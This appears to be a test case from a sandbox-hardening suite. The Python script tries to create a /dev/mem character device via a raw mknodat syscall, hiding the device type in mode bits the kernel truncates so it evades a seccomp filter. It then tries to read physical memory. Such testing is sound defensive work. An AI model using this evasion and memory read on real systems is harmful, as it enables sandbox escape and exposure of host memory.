# attack: the machine's memory as a file, its type hidden below bits that the kernel cuts off
# guards: seccomp/devices, mount/nodev
# breaks: seccomp/devices + identity/capabilities + mount/nodev (x86_64)
# expect: SV syscall:mknodat
import ctypes
import os
import stat

libc = ctypes.CDLL(None, use_errno=True)
mknodat = {"x86_64": 259, "aarch64": 33}[os.uname().machine]
mode = 1 << 16 | stat.S_IFCHR | 0o600
result = libc.syscall(mknodat, -100, b"/tmp/mem", mode, os.makedev(1, 1))
try:
    # Where a PC has its firmware; kernels let the first megabyte be read.
    read = os.pread(os.open("/tmp/mem", os.O_RDONLY), 16, 0xF0000)
    print(f"BREACH read {len(read)} bytes of the machine's memory")
except OSError as error:
    print(f"held: mknodat returned {result}, {error}")
